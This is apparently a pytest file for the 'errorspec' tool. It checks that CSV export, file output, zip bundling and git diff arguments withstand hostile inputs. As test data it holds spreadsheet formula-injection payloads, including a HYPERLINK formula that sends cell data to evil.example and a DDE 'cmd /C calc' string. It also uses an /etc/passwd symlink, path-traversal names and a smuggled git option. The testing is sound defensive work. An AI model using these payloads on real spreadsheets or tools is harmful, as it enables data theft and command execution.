"""What errorspec writes and packs, under attack: CSV cells, export targets, bundles, diff revisions."""

from __future__ import annotations

import copy
import errno
import json
import os
import shutil
import stat
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from conftest import SPEC, html_page, run_cli
from errorspec.publish.bundle import write_bundle

ERRORSPEC = Path(sys.executable).parent / "errorspec"


def files_in(folder: Path) -> dict[str, bytes]:
    """Every file under `folder` and its bytes: what a failed command must leave as it was."""
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


# ---------------------------------------------------------------- CSV


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_json_stays_exact(mini_spec: Callable[..., Path]) -> None:
    spec_dir = mini_spec(
        {"ios.en.md": html_page("iOS", [("1", "A", "a")]), "ios.zh.md": html_page("iOS", [("1", "A", "一")])}
    )
    assert run_cli("import", spec_dir=spec_dir)[0] == 0
    platform_file = spec_dir / "ios.yaml"
    data = yaml.safe_load(platform_file.read_text(encoding="utf-8"))
    [entry] = data["codes"]
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    entry.update(message=hyperlink, description={"en": "+cmd|' /C calc'!A0", "zh": "@SUM(1+1)*cmd|' /C calc'!A0"})
    negative = copy.deepcopy(entry)  # no part shared, so that no YAML alias is written
    negative.update(code=-1, message="-2+3", description={"en": "\t=1+1", "zh": "line one\r=2+2"})
    data["codes"] = [negative, entry]
    platform_file.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")

    code, out, _ = run_cli("export", "--format", "csv", spec_dir=spec_dir)

    assert code == 0
    assert out == (
        "platform,code,message,description_en,description_zh,status,undocumented,deprecated\n"
        "ios,-1,'-2+3,'\t=1+1,\"line one\r=2+2\",ok,,\n"
        'ios,1,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+cmd|\' /C calc\'!A0,'
        "'@SUM(1+1)*cmd|' /C calc'!A0,ok,,\n"
    )
    code, out, _ = run_cli("export", "--format", "json", spec_dir=spec_dir)
    entries = json.loads(out)["entries"]
    assert [(e["code"], e["message"], e["description"]) for e in entries] == [
        (-1, "-2+3", {"en": "\t=1+1", "zh": "line one\r=2+2"}),
        (1, hyperlink, {"en": "+cmd|' /C calc'!A0", "zh": "@SUM(1+1)*cmd|' /C calc'!A0"}),
    ]


# ---------------------------------------------------------------- export -o


def test_export_to_a_pipe_dev_stdout_or_a_symlink_writes_without_waiting(
    mini_spec: Callable[..., Path], tmp_path: Path
) -> None:
    spec_dir = mini_spec(
        {"ios.en.md": html_page("iOS", [("1", "A", "a")]), "ios.zh.md": html_page("iOS", [("1", "A", "一")])}
    )
    assert run_cli("import", spec_dir=spec_dir)[0] == 0
    expected = run_cli("export", spec_dir=spec_dir)[1]
    assert run_cli("export", "-o", "-", spec_dir=spec_dir)[1] == expected

    def export_to(target: Path | str) -> subprocess.CompletedProcess[str]:
        command = [str(ERRORSPEC), "--spec", str(spec_dir), "export", "-o", str(target)]
        return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader waits, as a pipeline's would
    try:
        done = export_to(fifo)  # reading the FIFO first, to compare, used to wait here forever
        assert (done.returncode, done.stderr) == (0, f"wrote {fifo}\n")
        assert os.read(reader, 1 << 20).decode("utf-8") == expected
    finally:
        os.close(reader)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)  # written to, not replaced

    done = export_to("/dev/stdout")  # a pipe to this test
    assert (done.returncode, done.stdout, done.stderr) == (0, expected, "wrote /dev/stdout\n")

    real, link = tmp_path / "real.json", tmp_path / "link.json"
    real.write_text("old\n", encoding="utf-8")
    link.symlink_to(real)
    assert run_cli("export", "-o", str(link), spec_dir=spec_dir)[0] == 0
    assert link.is_symlink()
    assert real.read_text(encoding="utf-8") == expected


class FullDisk:
    """An open file whose every write fails as on a full disk."""

    def __init__(self, stream: Any) -> None:
        self.stream = stream

    def __getattr__(self, name: str) -> Any:
        return getattr(self.stream, name)

    def __enter__(self) -> FullDisk:
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.stream.close()

    def write(self, data: object) -> int:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_export_on_a_full_disk_says_so_and_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "codes.csv"
    target.write_text("the old export\n", encoding="utf-8")
    open_file = os.fdopen
    monkeypatch.setattr(os, "fdopen", lambda *args, **kwargs: FullDisk(open_file(*args, **kwargs)))

    code, out, err = run_cli("export", "--format", "csv", "-o", str(target))

    assert (code, out) == (1, "")
    assert err == f"error: {target}: cannot write (No space left on device): free some space; no file was changed\n"
    assert files_in(tmp_path) == {"codes.csv": b"the old export\n"}


def test_an_export_path_that_cannot_be_a_file_gets_one_message(tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    (tmp_path / "plain").write_text("a file\n", encoding="utf-8")
    before = files_in(tmp_path)

    code, _, err = run_cli("export", "-o", str(tmp_path / "folder"))
    assert (code, err.splitlines()[-1]) == (
        2,
        f"Error: Invalid value for '-o' / '--output': File '{tmp_path / 'folder'}' is a directory.",
    )
    code, _, err = run_cli("export", "-o", f"{tmp_path}/a\0b.json")
    assert (code, err.splitlines()[-1]) == (
        2,
        f"Error: Invalid value for '-o' / '--output': '{tmp_path}/a\\x00b.json' holds a NUL byte,"
        " which no file name can",
    )
    long_name = tmp_path / ("a" * 300)
    assert run_cli("export", "-o", str(long_name)) == (
        1,
        "",
        f"error: {long_name}: cannot write (File name too long); no file was changed\n",
    )
    under_a_file = tmp_path / "plain" / "codes.json"
    assert run_cli("export", "-o", str(under_a_file)) == (
        1,
        "",
        f"error: {under_a_file}: cannot write (a part of its path is a file, not a folder); no file was changed\n",
    )
    assert files_in(tmp_path) == before


# ---------------------------------------------------------------- bundle


def make_site(root: Path) -> Path:
    site = root / "site"
    (site / "zh").mkdir(parents=True)
    (site / "index.html").write_text("<h1>Codes</h1>\n", encoding="utf-8")
    (site / "zh" / "index.html").write_text("<h1>错误码</h1>\n", encoding="utf-8")
    return site


def bundle(site: Path, *args: str) -> tuple[int, str, str]:
    return run_cli("bundle", str(site), "--name", "codes", *args)


def test_bundle_packs_only_the_regular_files_inside_the_site(tmp_path: Path) -> None:
    site = make_site(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("not for the bundle\n", encoding="utf-8")
    (site / "passwd").symlink_to("/etc/passwd")
    (site / "secret.txt").symlink_to(outside / "secret.txt")
    (site / "linked").symlink_to(outside, target_is_directory=True)
    os.mkfifo(site / "zh" / "fifo")

    code, out, err = bundle(site, "-o", str(tmp_path / "dist"))

    assert code == 0
    with zipfile.ZipFile(out.strip()) as archive:
        names = [name.split("/", 1)[1] for name in archive.namelist()]
    assert names == ["index.html", "zh/index.html"]
    left_out = [line for line in err.splitlines() if line.startswith("left out")]
    assert left_out == [
        f"left out {site / name}: not a regular file" for name in ("linked", "passwd", "secret.txt", "zh/fifo")
    ]


def test_a_bundle_name_that_is_a_path_is_refused(tmp_path: Path) -> None:
    site = make_site(tmp_path)
    before = files_in(tmp_path)
    for name in ("../../escaped", "sub/name", "back\\slash", "..", "a\0b", ""):
        code, _, err = run_cli("bundle", str(site), "--name", name, "-o", str(tmp_path / "dist"))
        assert (code, err.splitlines()[-1]) == (
            2,
            f"Error: Invalid value for '--name': {name!r} is no file name: "
            "give one without '/', '\\', '..' or a NUL byte",
        )
    assert files_in(tmp_path) == before
    assert not (tmp_path / "dist").exists()


def test_a_bundle_written_inside_its_site_never_packs_itself(tmp_path: Path) -> None:
    site = make_site(tmp_path)
    zips = []
    for _ in range(2):
        code, out, _ = bundle(site, "-o", str(site / "downloads"))
        assert code == 0
        zips.append(Path(out.strip()).read_bytes())
        with zipfile.ZipFile(out.strip()) as archive:
            assert [name.split("/", 1)[1] for name in archive.namelist()] == ["index.html", "zh/index.html"]
    assert zips[0] == zips[1]


def test_a_site_without_index_html_is_refused(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    code, out, err = bundle(empty, "-o", str(tmp_path / "dist"))
    assert (code, out, err) == (
        1,
        "",
        f"error: {empty}: no index.html to pack: not a built site (build it first: mkdocs build)\n",
    )
    assert not (tmp_path / "dist").exists()


def test_a_bundle_that_cannot_be_written_gets_one_message_and_leaves_the_old_zip(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site, dist = make_site(tmp_path), tmp_path / "dist"
    zip_path = Path(bundle(site, "-o", str(dist))[1].strip())
    old = zip_path.read_bytes()

    def full_disk(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with monkeypatch.context() as patch:
        patch.setattr(zipfile.ZipFile, "writestr", full_disk)
        code, out, err = bundle(site, "-o", str(dist))
    assert (code, out) == (1, "")
    assert err == f"error: {zip_path}: cannot write (No space left on device): free some space; no file was changed\n"
    assert files_in(dist) == {zip_path.name: old}

    zip_path.unlink()
    zip_path.mkdir()  # a folder where the zip goes
    code, out, err = bundle(site, "-o", str(dist))
    assert (code, out) == (1, "")
    assert err == f"error: {zip_path}: a folder where the zip should be: move it away, or name the bundle otherwise\n"

    long_name = "a" * 300
    code, out, err = bundle(site, "-o", str(dist), "--name", long_name)
    assert (code, out) == (1, "")
    assert err.startswith(f"error: {dist}/{long_name}-")
    assert err.endswith(".zip: cannot write (File name too long); no file was changed\n")
    assert [path.name for path in dist.iterdir()] == [zip_path.name]


def test_two_bundles_at_once_each_write_a_whole_zip_with_the_umask_s_mode(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site, zip_path = make_site(tmp_path), tmp_path / "dist" / "codes.zip"
    write_bundle(site, tmp_path / "alone.zip", "codes")
    in_step = threading.Barrier(2, timeout=30)
    writestr = zipfile.ZipFile.writestr

    def writestr_in_step(archive: zipfile.ZipFile, *args: Any, **kwargs: Any) -> None:
        in_step.wait()  # both runs write their zip at once, entry by entry
        writestr(archive, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "writestr", writestr_in_step)
    failures: list[BaseException] = []

    def run() -> None:
        try:
            write_bundle(site, zip_path, "codes")
        except BaseException as error:  # the test reports any failure of either run
            failures.append(error)

    umask = os.umask(0o027)
    try:
        runs = [threading.Thread(target=run) for _ in range(2)]
        for thread in runs:
            thread.start()
        for thread in runs:
            thread.join(60)
    finally:
        os.umask(umask)
    assert failures == []
    assert zip_path.read_bytes() == (tmp_path / "alone.zip").read_bytes()
    assert stat.S_IMODE(zip_path.stat().st_mode) == 0o640
    assert [path.name for path in zip_path.parent.iterdir()] == ["codes.zip"]


# ---------------------------------------------------------------- diff revisions


def git(repo: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(repo), *args], capture_output=True, check=True)


@pytest.fixture
def spec_in_git(tmp_path: Path) -> Path:
    """A copy of the spec in a new git repository, committed twice: 871310's message changed."""
    spec_dir = tmp_path / "repo" / "spec"
    shutil.copytree(SPEC, spec_dir)
    git(spec_dir, "init", "-q", "-b", "main")
    git(spec_dir, "-c", "user.email=t@example.com", "-c", "user.name=T", "add", "-A")
    git(spec_dir, "-c", "user.email=t@example.com", "-c", "user.name=T", "commit", "-qm", "one")
    android = spec_dir / "android.yaml"
    old = "message: Network not available,please check your network connection."
    android.write_text(android.read_text(encoding="utf-8").replace(old, "message: Network gone."), encoding="utf-8")
    git(spec_dir, "-c", "user.email=t@example.com", "-c", "user.name=T", "commit", "-qam", "two")
    return spec_dir


def test_diff_takes_one_commit_per_side_and_says_what_else_is_not(spec_in_git: Path) -> None:
    code, out, _ = run_cli("diff", "HEAD~1", "HEAD", "--format", "json", spec_dir=spec_in_git)
    assert (code, [change["id"] for change in json.loads(out)["changes"]]) == (0, ["message-changed:android:871310"])

    for revision in ("HEAD~1..HEAD", "HEAD~1...HEAD", "..HEAD", "^HEAD~1", "HEAD^!"):
        assert run_cli("diff", revision, spec_dir=spec_in_git) == (
            1,
            "",
            f"error: {revision}: a range of commits is not one revision:"
            " to compare two, give both (errorspec diff A B)\n",
        )
    for revision in ("HEAD^{tree}", "HEAD:android.yaml", "no-such-branch"):
        assert run_cli("diff", revision, spec_dir=spec_in_git) == (
            1,
            "",
            f"error: {revision}: neither a spec folder, a spec file, nor a git revision of this repository\n",
        )
    assert run_cli("diff", "--", "--output=/tmp/x", spec_dir=spec_in_git) == (
        1,
        "",
        "error: --output=/tmp/x: neither a spec folder nor a spec file, and no git revision begins with '-'\n",
    )
    assert run_cli("diff", "HEAD\n^HEAD~1", spec_dir=spec_in_git) == (
        1,
        "",
        "error: 'HEAD\\n^HEAD~1': neither a spec folder nor a spec file,"
        " and no git revision holds a control character\n",
    )


def test_a_spec_folder_named_with_a_nul_byte_is_a_usage_error() -> None:
    code, _, err = run_cli("check", spec_dir=Path("sp\0ec"))
    assert code == 2
    assert "Invalid value for '--spec': 'sp\\x00ec' holds a NUL byte, which no file name can" in err
